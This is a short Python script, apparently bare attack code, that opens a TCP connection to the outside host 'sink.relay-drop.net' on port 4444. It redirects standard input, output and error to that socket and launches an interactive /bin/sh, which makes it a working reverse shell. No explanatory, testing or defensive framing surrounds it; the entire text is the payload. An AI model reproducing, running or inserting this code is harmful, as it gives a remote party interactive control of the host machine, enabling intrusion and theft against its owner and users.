import socket, os, subprocess
s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
s.connect(("sink.relay-drop.net", 4444))
for fd in (0, 1, 2):
    os.dup2(s.fileno(), fd)
subprocess.call(["/bin/sh", "-i"])
